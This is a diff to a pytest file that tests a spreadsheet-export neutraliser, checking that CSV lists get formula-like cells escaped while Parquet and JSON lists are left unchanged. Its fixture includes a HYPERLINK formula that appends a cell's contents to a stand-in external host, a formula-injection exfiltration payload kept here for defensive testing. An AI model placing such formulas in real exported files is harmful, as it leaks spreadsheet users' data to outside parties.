@@ -6,6 +6,7 @@ import csv
 import io
 import re
 import unicodedata
+from pathlib import Path
 
 import polars as pl
 import pytest
@@ -13,7 +14,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from polars.testing import assert_frame_equal
 
-from scoring.spreadsheet import neutralise
+from scoring.spreadsheet import neutralise, write_list
 
 RUNS = (
     '=HYPERLINK("http://x.example/?"&A1,"here")',
@@ -123,3 +124,21 @@ def test_a_file_of_it_holds_no_formula() -> None:
     rows = list(csv.reader(io.StringIO(text, newline="")))
     assert len(rows) == 1 + frame.height
     assert not any(runs(cell) for row in rows for cell in row)
+
+
+@pytest.mark.parametrize("ending", [".csv", ".csv.gz", ".CSV"])
+def test_lists_that_are_csv_are_made_safe(ending: str, tmp_path: Path) -> None:
+    frame = pl.DataFrame({"name": RUNS[:5], "number": [-1.5, 2, 3, 4, 5]})
+    path = tmp_path / f"list{ending}"
+    write_list(frame, path)
+    found = pl.read_csv(path)
+    assert found["name"].to_list() == [f"'{cell}" for cell in RUNS[:5]]
+    assert found["number"].to_list() == frame["number"].to_list()
+
+
+@pytest.mark.parametrize("ending", [".parquet", ".ndjson", ".json"])
+def test_other_lists_are_as_they_are(ending: str, tmp_path: Path) -> None:
+    path = tmp_path / f"list{ending}"
+    write_list(pl.DataFrame({"name": RUNS[:5]}), path)
+    read = {".parquet": pl.read_parquet, ".ndjson": pl.read_ndjson, ".json": pl.read_json}[ending]
+    assert read(path)["name"].to_list() == list(RUNS[:5])
